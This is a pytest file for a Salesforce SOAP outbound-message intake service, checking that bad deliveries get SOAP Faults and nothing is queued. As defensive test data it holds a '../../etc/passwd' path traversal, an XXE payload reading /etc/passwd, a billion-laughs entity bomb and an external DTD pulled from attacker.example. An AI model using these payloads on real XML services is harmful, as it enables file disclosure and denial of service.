"""Every way a delivery is refused: a SOAP 1.1 Fault with the right status and reason, and nothing enqueued."""

from __future__ import annotations

import copy
import math
import re
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from conftest import LISTENER_WSDLS, TOKEN, Stack, fixture_request, make_intake
from salesforce_sender import SalesforceSender, records
from sf_edge.outbound.intake import IntakeRequest, IntakeResult, OutboundIntake
from sf_edge.outbound.listeners import ListenerRegistry
from sf_edge.outbound.sender_verification import OrgAllowlist, SourceAllowlist
from sf_edge.token_verifier import TokenVerifier

SOAP = "{http://schemas.xmlsoap.org/soap/envelope/}"
MULESOFT = fixture_request("Opportunity__customfield_15charIds__mulesoft.xml")


def opportunity(i: int) -> dict[str, object]:
    return {
        "Id": f"006{i:012d}AAA"[:18],
        "AccountId": "001000000000001AAA",
        "StageName": "Closed Won",
        "Amount": 1000.0 + i,
        "CloseDate": "2024-06-30",
    }


def fault_of(result: IntakeResult) -> tuple[str, str, str]:
    assert result.body.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")  # a whole document, as the Ack is
    root = etree.fromstring(result.body)
    fault = root.find(f"{SOAP}Body/{SOAP}Fault")
    assert fault is not None, result.body
    return fault.findtext("faultcode") or "", fault.findtext("faultstring") or "", fault.findtext("detail/reason") or ""


def refuse(
    stack: Stack,
    wsdl_dir: Path,
    listener: str,
    body: bytes,
    *,
    token: str | None = TOKEN,
    intake: OutboundIntake | None = None,
    source_ip: str | None = None,
) -> tuple[int, str, str, str]:
    result = (intake or make_intake(wsdl_dir, stack.queue_url)).receive(IntakeRequest(listener, body, token, source_ip))
    assert not result.acked
    assert stack.queue_depth() == 0, "a refused message must leave nothing in the queue"
    code, text, reason = fault_of(result)
    assert reason == result.outcome
    return result.status, code, text, reason


@pytest.fixture
def wsdls(fixture_listeners: Path) -> Path:
    return fixture_listeners


def test_missing_token(stack: Stack, wsdls: Path) -> None:
    assert refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token=None)[::3] == (401, "missing_token")


def test_wrong_token(stack: Stack, wsdls: Path) -> None:
    status, code, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token=TOKEN + "x")
    assert (status, code, text, reason) == (401, "soapenv:Client", "Wrong token", "wrong_token")


def test_no_configured_token_refuses_everything(stack: Stack, wsdls: Path) -> None:
    intake = OutboundIntake(
        ListenerRegistry(wsdls),
        TokenVerifier(lambda: ""),
        OrgAllowlist(["00DQ0000000EB93"]),
        make_intake(wsdls, stack.queue_url).publisher,
    )
    status, code, _, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token="", intake=intake)
    assert (status, code, reason) == (500, "soapenv:Server", "token_not_configured")


def test_rotated_tokens_are_all_accepted(stack: Stack, wsdls: Path) -> None:
    verifier = TokenVerifier(lambda: "old-token, new-token")
    assert verifier.verify("old-token")
    assert verifier.verify("new-token")
    assert not verifier.verify("old-token, new-token")
    assert not verifier.verify("")


def test_org_not_in_allowlist(stack: Stack, wsdls: Path) -> None:
    other_org = MULESOFT.replace(b"00DQ0000000EB93", b"00DQ0000000EB94")
    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", other_org)
    assert (status, reason) == (403, "org_not_allowed")
    assert "00DQ0000000EB94" in text


@pytest.mark.parametrize("sent", ["00D000000000001EAAX", "00D000000000001EA", "00D00000000000"])
def test_an_allowed_org_id_of_the_wrong_length_is_not_allowed(stack: Stack, sent: str) -> None:
    """Not cut to 18 or padded: an OrganizationId is 15 or 18 characters, or it is not the allowed org."""
    body = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl").envelope(records(1, opportunity), org_id=sent)
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, reason) == (403, "org_not_allowed")
    assert sent in text


def test_a_long_org_id_is_named_by_its_first_40_characters_only(stack: Stack) -> None:
    """The Fault (and the log) name the sender's org, but no sender makes them carry a text of its choosing."""
    sent = "00D" + "A" * 37 + "TAIL-NOT-SHOWN"
    body = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl").envelope(records(1, opportunity), org_id=sent)
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, reason) == (403, "org_not_allowed")
    assert text == f"Organization {sent[:40]} is not allowed to send to this endpoint"


def test_org_allowlist_compares_15_character_prefixes() -> None:
    orgs = OrgAllowlist(["00D7F00000107XsUAI"])
    assert orgs.allows("00D7F00000107Xs")
    assert orgs.allows("00D7F00000107XsUAI")
    assert not orgs.allows("00D7F00000107xs")  # ids are case-sensitive
    assert not orgs.allows("00D7F00000107XsUA")


def test_source_outside_allowed_ranges(stack: Stack, wsdls: Path) -> None:
    intake = make_intake(wsdls, stack.queue_url)
    intake.sources = SourceAllowlist.from_csv("13.108.0.0/14, 2001:db8::/32")
    assert refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, intake=intake, source_ip="203.0.113.9")[::3] == (
        403,
        "source_not_allowed",
    )
    assert intake.receive(IntakeRequest("opportunity_mulesoft", MULESOFT, TOKEN, "13.110.1.2")).acked


@pytest.mark.parametrize(
    ("source", "allowed"),
    [("13.110.1.2", True), ("2001:db8::7", True), ("13.112.0.1", False), ("not an address", False), (None, False)],
)
def test_source_ranges_as_an_admin_writes_them(source: str | None, allowed: bool) -> None:
    """Ranges copied with host bits set (13.110.1.9/14) still mean their network; an address that cannot be read
    is outside every range (when ranges are configured), never an error."""
    assert SourceAllowlist.from_csv(" 13.110.1.9/14 ,, 2001:db8::1/32").allows(source) is allowed
    assert SourceAllowlist.from_csv("").allows(source) is True  # no ranges configured: every caller


def test_unknown_listener(stack: Stack, wsdls: Path) -> None:
    assert refuse(stack, wsdls, "../../etc/passwd", MULESOFT)[::3] == (404, "unknown_listener")
    assert refuse(stack, wsdls, "nosuch", MULESOFT)[::3] == (404, "unknown_listener")


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty_body"),
        (b"hello, not xml", "malformed_xml"),
        (b'{"json": true}', "malformed_xml"),
        (MULESOFT[:-40], "malformed_xml"),
        (b"<notifications xmlns='http://soap.sforce.com/2005/09/outbound'/>", "not_soap"),
    ],
)
def test_not_a_soap_message(stack: Stack, wsdls: Path, body: bytes, reason: str) -> None:
    status, code, _, got = refuse(stack, wsdls, "opportunity_mulesoft", body)
    assert (status, code, got) == (400, "soapenv:Client", reason)


def test_soap12_envelope_fixture(stack: Stack, wsdls: Path) -> None:
    status, code, text, reason = refuse(
        stack, wsdls, "lead", fixture_request("Lead__3notifications_soap12env__tndstudios.xml")
    )
    assert (status, code, reason) == (400, "soapenv:VersionMismatch", "soap12_envelope")
    assert "SOAP 1.2" in text


def test_unknown_xsi_type_fixture(stack: Stack, wsdls: Path) -> None:
    status, _, text, reason = refuse(
        stack, wsdls, "lead", fixture_request("Lead__3notifications_edited__aspnet-webhooks.xml")
    )
    assert (status, reason) == (400, "unknown_xsi_type")
    assert "sf:Lead1" in text


def test_known_but_wrong_xsi_type(stack: Stack, wsdls: Path) -> None:
    body = MULESOFT.replace(b'xsi:type="sf:Opportunity"', b'xsi:type="sf:AggregateResult"')
    assert refuse(stack, wsdls, "opportunity_mulesoft", body)[::3] == (400, "unknown_xsi_type")


def test_empty_notifications_fixture(stack: Stack, wsdls: Path) -> None:
    status, _, text, reason = refuse(
        stack, wsdls, "lead", fixture_request("EDGE_empty_notifications__aspnet-webhooks.xml")
    )
    assert (status, reason) == (400, "missing_element")
    assert "OrganizationId" in text


ENVELOPE = b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">{}</soapenv:Envelope>'
NOTIFICATIONS = b'<notifications xmlns="http://soap.sforce.com/2005/09/outbound"/>'


@pytest.mark.parametrize(
    ("inside", "reason"),
    [
        (b"<soapenv:Header/>", "missing_body"),
        (b"<soapenv:Body/>", "not_notifications"),
        (b"<soapenv:Body><!-- nothing --></soapenv:Body>", "not_notifications"),
        (b"<soapenv:Body>" + NOTIFICATIONS + NOTIFICATIONS + b"</soapenv:Body>", "not_notifications"),
        (b"<soapenv:Body>" + NOTIFICATIONS + b"<other/></soapenv:Body>", "not_notifications"),
    ],
)
def test_envelopes_without_exactly_one_notifications_element(
    stack: Stack, wsdls: Path, inside: bytes, reason: str
) -> None:
    body = ENVELOPE.replace(b"{}", inside)
    assert refuse(stack, wsdls, "opportunity_mulesoft", body)[::3] == (400, reason)


def test_body_that_is_not_notifications(stack: Stack, wsdls: Path) -> None:
    body = MULESOFT.replace(b"<notifications ", b"<somethingElse ").replace(b"</notifications>", b"</somethingElse>")
    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
    assert (status, reason) == (400, "not_notifications")
    assert "somethingElse" in text


@pytest.mark.parametrize(
    ("remove", "where"),
    [
        (b"<ActionId>04kV0000000CaSPIA0</ActionId>", "Missing required element ActionId"),
        (
            b"<EnterpriseUrl>https://cs12-api.salesforce.com/services/Soap/c/23.0/00DV00000000dS3</EnterpriseUrl>",
            "Missing required element EnterpriseUrl",
        ),
        (b"<Id>04lV0000001ALshIAG</Id>", "Missing required element Id"),
        (b"<sf:Id>006Q0000009N3gf</sf:Id>", "Missing required element Id"),
        (b"04kV0000000CaSPIA0", "ActionId"),
        (b"006Q0000009N3gf", "Notification[1].sObject.Id"),
    ],
)
def test_missing_required_elements(stack: Stack, wsdls: Path, remove: bytes, where: str) -> None:
    assert remove in MULESOFT
    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT.replace(remove, b""))
    assert (status, reason) == (400, "missing_element")
    assert where in text


def test_value_that_does_not_match_its_type(stack: Stack) -> None:
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = sender.envelope(records(1, opportunity)).replace(b"2024-06-30", b"June 30th")
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, reason) == (400, "invalid_value")
    assert "CloseDate" in text


def test_value_zeep_refuses_outright(stack: Stack) -> None:
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = sender.envelope(records(1, opportunity)).replace(b"1000.0", b"lots")
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, reason) == (400, "invalid_value")
    assert "Notification 1 (Id 04l000000000000AAA), field Amount: 'lots' is not a finite number" in text


def with_value(body: bytes, position: int, field: str, text: str, xsi_type: str | None = None) -> bytes:
    """The envelope with one field of one notification (from 1) set to `text`, typed `xsi_type` if given."""
    root = etree.fromstring(body)
    sobject = root.findall(".//{http://soap.sforce.com/2005/09/outbound}sObject")[position - 1]
    element = next((c for c in sobject if etree.QName(c).localname == field), None)
    if element is None:
        element = etree.SubElement(sobject, "{urn:sobject.enterprise.soap.sforce.com}" + field)
    element.text = text
    if xsi_type:
        element.set("{http://www.w3.org/2001/XMLSchema-instance}type", xsi_type)
    xml = etree.tostring(root)
    return xml.replace(b"<soap-env:Envelope ", b'<soap-env:Envelope xmlns:xsd="http://www.w3.org/2001/XMLSchema" ', 1)


ACKED_THEN_DEAD_LETTERED = [
    ("Amount", "lots", "xsd:string", "xsi:type 'xsd:string' is not its declared type xsd:double"),
    ("Amount", "NaN", None, "'NaN' is not a finite number"),
    ("Amount", "INF", None, "'INF' is not a finite number"),
    ("Amount", "1e999999", None, "'1e999999' is beyond the range of a double"),
    ("Id", "006000000000001AA", None, "'006000000000001AA' is not a Salesforce id"),
    ("AccountId", "001000000000001AA!", None, "is not a Salesforce id"),
    ("OwnerId", "00500000000001", None, "is not a Salesforce id"),
    ("AccountId", " ", None, "' ' is not a Salesforce id"),  # an id is a string type: spaces are not trimmed
    ("AccountId", " 001000000000001AAA", None, "is not a Salesforce id"),
    ("LastModifiedDate", "2024-06-30T10:00:00+99:99", None, "is not a date-time"),
    ("LastModifiedDate", "2024-02-30T10:00:00Z", None, "is not a date-time"),
    ("SystemModstamp", "2024-06-30T25:00:00Z", None, "is not a date-time"),
    ("CloseDate", "2024-13-01", None, "is not a date"),
    ("IsWon", "yes", None, "is not true or false"),
    ("Amount", "AAAA", "xsd:base64Binary", "xsi:type 'xsd:base64Binary' is not its declared type xsd:double"),
    ("Amount", "P1D", "xsd:duration", "xsi:type 'xsd:duration' is not its declared type xsd:double"),
    ("Name", "x", "xsd:base64Binary", "xsi:type 'xsd:base64Binary' is not its declared type xsd:string"),
    ("Name", "x", "nowhere:string", "xsi:type 'nowhere:string' is not its declared type xsd:string"),
]


@pytest.mark.parametrize(("field", "text", "xsi_type", "why"), ACKED_THEN_DEAD_LETTERED)
def test_a_value_the_worker_could_never_apply_is_refused_before_the_ack(
    stack: Stack, field: str, text: str, xsi_type: str | None, why: str
) -> None:
    """Each of these was acked, then failed in the worker until dead-lettered while Salesforce believed it
    delivered: now the whole message is a Fault naming the notification and the field, and nothing is queued."""
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = with_value(sender.envelope(records(2, opportunity)), 2, field, text, xsi_type)
    status, code, fault_text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, code, reason) == (400, "soapenv:Client", "invalid_value")
    assert f"Notification 2 (Id 04l000000000001AAA), field {field}: " in fault_text
    assert why in fault_text


@pytest.mark.parametrize(
    ("field", "text", "xsi_type"),
    [
        ("Amount", "1.0E7", None),
        ("Amount", "-0.5", "xsd:double"),
        ("Id", "006000000000001", None),
        ("LastModifiedDate", "2024-06-30T10:00:00.000Z", None),
        ("LastModifiedDate", "2024-06-30T10:00:00+14:00", None),
        ("LastModifiedDate", "2024-06-30T10:00:00-05:30", None),
        ("CloseDate", "2024-02-29", None),
        ("IsWon", "1", None),
        ("Amount", " 12 ", None),  # every XSD built-in but string collapses the spaces around a value
        ("CloseDate", "\n2024-02-29 ", None),
        ("Name", "006000000000001AAA", "ent:ID"),  # narrowing a string to an id: still a string to the worker
    ],
)
def test_every_value_salesforce_can_send_is_accepted(stack: Stack, field: str, text: str, xsi_type: str | None) -> None:
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = with_value(sender.envelope(records(2, opportunity)), 2, field, text, xsi_type)
    body = body.replace(b"<soap-env:Envelope ", b'<soap-env:Envelope xmlns:ent="urn:enterprise.soap.sforce.com" ', 1)
    result = make_intake(LISTENER_WSDLS, stack.queue_url).receive(IntakeRequest("opportunity", body, TOKEN))
    assert result.acked, result.detail
    assert stack.queue_depth() == 2


@pytest.mark.parametrize("sent", ["04l00000000000/AAA", " 04l000000000001AAA"])
def test_a_notification_id_that_is_not_an_id_is_refused(stack: Stack, sent: str) -> None:
    """A padded Id too: queued as sent, it would be another notification to the idempotency key."""
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = sender.envelope(records(2, opportunity)).replace(b">04l000000000001AAA<", f">{sent}<".encode())
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
    assert (status, reason) == (400, "invalid_value")
    assert f"Notification 2: Id {sent!r} is not a Salesforce id" in text


XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>&xxe;</OrganizationId></notifications>
</soapenv:Body></soapenv:Envelope>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&lol4;</soapenv:Body>
</soapenv:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body/></soapenv:Envelope>"""


@pytest.mark.parametrize(
    "body",
    [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD, XXE_FILE.replace(b"DOCTYPE", b"doctype")],
    ids=["xxe", "billion-laughs", "external-dtd", "lowercase"],
)
def test_dtds_and_entities_are_refused(stack: Stack, wsdls: Path, body: bytes) -> None:
    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
    assert status == 400
    assert reason in ("dtd_forbidden", "malformed_xml")
    assert "root:" not in text  # nothing of /etc/passwd leaks into the fault


@pytest.mark.parametrize("body", [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external"])
def test_the_byte_scan_refuses_a_dtd_before_any_parser_sees_it(body: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first of two layers, on its own: with the parser replaced by one that would accept anything, a DTD in
    the bytes is still refused (the UTF-16 test below shows zeep's layer on its own)."""
    import zeep.loader

    from sf_edge.outbound.soap import Rejection, parse_envelope

    def parser_reached(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the parser saw a DTD")

    monkeypatch.setattr(zeep.loader, "parse_xml", parser_reached)
    with pytest.raises(Rejection) as refused:
        parse_envelope(body)
    assert refused.value.reason == "dtd_forbidden"


def test_utf16_xxe_is_refused_by_the_parser_itself(stack: Stack, wsdls: Path) -> None:
    # Bytes scanning cannot see UTF-16 markup: zeep's hardened loader must refuse the DTD on its own.
    body = (
        XXE_FILE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
    )
    assert b"<!DOCTYPE" not in body
    status, _, _, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
    assert (status, reason) == (400, "dtd_forbidden")


def test_the_default_body_limit_is_exactly_5_5_mb(stack: Stack, wsdls: Path) -> None:
    """Lambda takes 6 MB a request: up to 5,500,000 bytes is read (whitespace after the envelope is still XML),
    one byte more is a 413 before anything is parsed."""
    from sf_edge.outbound.intake import DEFAULT_MAX_BODY_BYTES

    assert DEFAULT_MAX_BODY_BYTES == 5_500_000
    at_limit = MULESOFT + b" " * (5_500_000 - len(MULESOFT))
    intake = make_intake(wsdls, stack.queue_url)
    assert intake.receive(IntakeRequest("opportunity_mulesoft", at_limit, TOKEN)).acked
    result = intake.receive(IntakeRequest("opportunity_mulesoft", at_limit + b" ", TOKEN))
    assert (result.status, result.outcome) == (413, "body_too_large")


def test_a_message_with_no_notification_is_refused(stack: Stack, wsdls: Path) -> None:
    start = MULESOFT.index(b"<Notification>")
    end = MULESOFT.rindex(b"</Notification>") + len(b"</Notification>")
    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT[:start] + MULESOFT[end:])
    assert (status, reason) == (400, "no_notifications")
    assert text == "The message holds no Notification"


def test_the_result_names_the_org_and_why_enqueueing_failed(stack: Stack, wsdls: Path) -> None:
    """What the listener logs: the org as sent (18 characters), and the cause under a Fault's own words."""

    class Down:
        def publish(self, _messages: Sequence[Any]) -> None:
            raise RuntimeError("SQS is down")

    body = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl").envelope(records(1, opportunity))
    result = make_intake(LISTENER_WSDLS, stack.queue_url, publisher=Down()).receive(
        IntakeRequest("opportunity", body, TOKEN)
    )
    assert (result.status, result.outcome, result.detail) == (500, "enqueue_failed", "SQS is down")
    assert result.organization_id == "00D000000000001EAA"
    refused = make_intake(wsdls, stack.queue_url).receive(IntakeRequest("nosuch", MULESOFT, TOKEN))
    assert refused.detail == "No listener named 'nosuch'"  # no cause: the rejection's own message


def test_oversize_body(stack: Stack, wsdls: Path) -> None:
    intake = make_intake(wsdls, stack.queue_url)
    intake.max_body_bytes = 1024
    body = MULESOFT.replace(b"Test email value", b"x" * 2048)
    assert refuse(stack, wsdls, "opportunity_mulesoft", body, intake=intake)[::3] == (413, "body_too_large")


def test_more_than_100_notifications(stack: Stack) -> None:
    # zeep's client will not build 101 (maxOccurs=100), so add the 101st by hand, as a misbehaving sender would.
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    root = etree.fromstring(sender.envelope(records(100, opportunity)))
    notification = root.find(".//{http://soap.sforce.com/2005/09/outbound}Notification")
    assert notification is not None
    notification.addnext(copy.deepcopy(notification))
    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", etree.tostring(root))
    assert (status, reason) == (400, "too_many_notifications")
    assert "101" in text


def test_exactly_100_notifications_are_enqueued_with_one_ack(stack: Stack) -> None:
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    result = make_intake(LISTENER_WSDLS, stack.queue_url).receive(
        IntakeRequest("opportunity", sender.envelope(records(100, opportunity)), TOKEN)
    )
    assert result.acked
    assert len(result.notification_ids) == 100
    assert stack.queue_depth() == 100
    assert len({m["MessageId"] for m in stack.drain()}) == 100


class Captured:
    """A publisher that keeps what it was given (the fuzz test checks the queue's contents, not SQS)."""

    def __init__(self) -> None:
        self.messages: list[Any] = []

    def publish(self, messages: Sequence[Any]) -> None:
        self.messages.extend(messages)


TRICKY = ["NaN", "-INF", "1e400", "0x10", "1,5", " 12 ", "2024-06-30T10:00:00+14:01", "2024-06-30", "true", "AAAA",
          "006000000000001", " 006000000000001", " ", "006000000000001AAA", "0060000000000010", "P1D", "",
          "\uff11\uff12", "1_000"]  # fmt: skip
FUZZ_INTAKE = make_intake(LISTENER_WSDLS, "https://sqs.invalid/q", publisher=Captured())


@settings(max_examples=250, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    field=st.sampled_from(["Amount", "Probability", "Id", "AccountId", "CloseDate", "LastModifiedDate", "IsWon"]),
    text=st.one_of(st.sampled_from(TRICKY), st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=24)),
    xsi_type=st.sampled_from([None, "xsd:string", "xsd:double", "xsd:dateTime", "xsd:base64Binary", "xsd:duration"]),
)
def test_fuzzed_typed_values_are_refused_or_queued_as_values_the_worker_applies(
    field: str, text: str, xsi_type: str | None
) -> None:
    """Whatever a sender puts in a typed field: a 400 Fault, or an Ack whose queued values all fit their types."""
    from sf_edge.salesforce.notification_message import NotificationMessage

    captured = FUZZ_INTAKE.publisher
    assert isinstance(captured, Captured)
    captured.messages.clear()
    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
    body = with_value(sender.envelope(records(1, opportunity)), 1, field, text, xsi_type)
    result = FUZZ_INTAKE.receive(IntakeRequest("opportunity", body, TOKEN))
    if not result.acked:
        assert result.status == 400, (result.status, result.detail)
        assert captured.messages == []
        return
    [queued] = captured.messages
    fields = NotificationMessage.model_validate_json(queued.body).fields
    value = fields.get(field)
    if value is None:
        return  # blank: sent as no value
    if field in ("Amount", "Probability"):
        assert isinstance(value, float), value
        assert math.isfinite(value), value
    elif field in ("Id", "AccountId"):
        assert re.fullmatch(r"[A-Za-z0-9]{15}([A-Za-z0-9]{3})?", value), value
    elif field == "CloseDate":
        date.fromisoformat(value)
    elif field == "LastModifiedDate":
        datetime.fromisoformat(value)
    else:
        assert isinstance(value, bool), value
